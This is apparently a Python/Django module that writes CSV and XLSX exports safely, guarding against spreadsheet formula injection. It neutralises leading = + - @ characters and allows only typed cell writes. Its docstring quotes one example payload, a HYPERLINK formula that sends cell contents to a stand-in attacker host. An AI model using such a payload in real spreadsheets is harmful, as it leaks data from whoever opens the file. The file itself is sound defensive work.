"""Files of figures that leave the application (CSV and XLSX), written so that no text in
them can run as a formula when a spreadsheet opens them.

A topic, centre or organisation named `=HYPERLINK("http://evil.example/?"&A1,"x")` is
text a staff member typed; written with XlsxWriter's `write()` it became a live formula,
and in a CSV field any of = + - @ (or a leading tab or carriage return) starts one. Every
export builds its files here, and nowhere else imports xlsxwriter or csv
(tests/centres/test_exports.py walks the code for that):

- XLSX: `Workbook` hands out `Sheet`s that write text with `write_string` (always a text
  cell, whatever it starts with), numbers with `write_number`, dates with
  `write_datetime`; they have no `write`, `write_row`, `write_column`, formula or URL
  method. The workbook is opened with XlsxWriter's conversions of strings to formulas,
  URLs and numbers off as well.
- CSV: `CsvFile` puts an apostrophe before text that starts with = + - @ tab or carriage
  return (OWASP's advice; Excel and LibreOffice then show it as text) and writes numbers
  as numbers.
"""

import csv
import datetime
import decimal
import io

import xlsxwriter
from django.http import HttpResponse
from django.utils import formats

# A CSV field starting with one of these is read as a formula (or a DDE call).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def neutralised(text):
    """Return `text` as a spreadsheet shows it as text: with an apostrophe in front when
    it starts with = + - @ tab or carriage return."""
    text = str(text)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def is_number(value):
    return isinstance(value, int | float | decimal.Decimal) and not isinstance(value, bool)


def attachment(content, filename, content_type):
    """An HTTP response that downloads `content` as `filename` (made by the code, never
    from user text)."""
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# --- CSV ------------------------------------------------------------------------------------


class CsvFile:
    """A CSV file for Danish Excel: semicolons, CRLF, UTF-8 with a BOM; text neutralised,
    numbers written as numbers with a decimal comma, None as an empty field."""

    def __init__(self):
        self.buffer = io.StringIO()
        self.writer = csv.writer(self.buffer, delimiter=";", lineterminator="\r\n")

    @staticmethod
    def field(value):
        if value is None:
            return ""
        if isinstance(value, int) and not isinstance(value, bool):
            return str(value)
        if is_number(value):
            return formats.number_format(value, use_l10n=True)
        if isinstance(value, datetime.date):
            return formats.date_format(value, "SHORT_DATE_FORMAT")
        return neutralised(value)

    def row(self, values):
        self.writer.writerow([self.field(value) for value in values])

    def content(self):
        return ("\ufeff" + self.buffer.getvalue()).encode("utf-8")

    def response(self, filename):
        return attachment(self.content(), filename, "text/csv; charset=utf-8")


# --- XLSX -----------------------------------------------------------------------------------


def page_text(text):
    """`text` for a printed page's header or footer, where & starts a code."""
    return str(text).replace("&", "&&")


class Workbook:
    """An XLSX workbook in memory whose sheets write text only as text."""

    def __init__(self, **options):
        self.output = io.BytesIO()
        self._book = xlsxwriter.Workbook(
            self.output,
            {
                "in_memory": True,
                "strings_to_formulas": False,
                "strings_to_urls": False,
                "strings_to_numbers": False,
                **options,
            },
        )

    def add_format(self, properties=None):
        return self._book.add_format(properties or {})

    def add_worksheet(self, name):
        """A new Sheet; `name` is the code's, cut to Excel's 31 characters."""
        return Sheet(self._book.add_worksheet(str(name)[:31]))

    def set_properties(self, properties):
        self._book.set_properties({key: str(value) for key, value in properties.items()})

    def close(self):
        """Return the workbook's bytes."""
        self._book.close()
        return self.output.getvalue()

    def response(self, filename):
        return attachment(self.close(), filename, XLSX_TYPE)


class Sheet:
    """A worksheet that writes text as text, numbers as numbers and dates as dates, and
    lays its pages out; it cannot write a formula or a link."""

    # XlsxWriter's layout methods, passed through; nothing that writes a cell's value.
    LAYOUT = frozenset(
        {
            "fit_to_pages",
            "freeze_panes",
            "hide_gridlines",
            "repeat_rows",
            "set_column",
            "set_default_row",
            "set_footer",
            "set_header",
            "set_landscape",
            "set_margins",
            "set_paper",
            "set_portrait",
            "set_row",
        }
    )

    def __init__(self, worksheet):
        self._worksheet = worksheet

    def __getattr__(self, name):
        if name in self.LAYOUT:
            return getattr(self._worksheet, name)
        raise AttributeError(f"a Sheet has no {name!r}: write through text(), number(), cell()")

    def text(self, row, col, value, cell_format=None):
        self._worksheet.write_string(row, col, str(value), cell_format)

    def number(self, row, col, value, cell_format=None):
        if not is_number(value):
            raise TypeError(f"not a number: {value!r}")
        self._worksheet.write_number(row, col, value, cell_format)

    def date(self, row, col, value, cell_format):
        if not isinstance(value, datetime.datetime):
            value = datetime.datetime.combine(value, datetime.time())
        self._worksheet.write_datetime(row, col, value, cell_format)

    def cell(self, row, col, value, cell_format=None):
        """Write `value` by its type: a number, a date (with a date format), else text;
        None leaves the cell empty."""
        if value is None:
            if cell_format is not None:
                self._worksheet.write_blank(row, col, None, cell_format)
        elif is_number(value):
            self.number(row, col, value, cell_format)
        elif isinstance(value, datetime.date):
            self.date(row, col, value, cell_format)
        else:
            self.text(row, col, value, cell_format)

    def cells(self, row, col, values, cell_format=None):
        """Write `values` along `row` from `col`, each by its type."""
        for offset, value in enumerate(values):
            self.cell(row, col + offset, value, cell_format)

    def merge(self, first_row, first_col, last_row, last_col, value, cell_format):
        """Merge a range and write `value` into it as text (XlsxWriter's merge_range
        would write it with write(), which reads = as a formula)."""
        self._worksheet.merge_range(first_row, first_col, last_row, last_col, "", cell_format)
        self.text(first_row, first_col, value, cell_format)
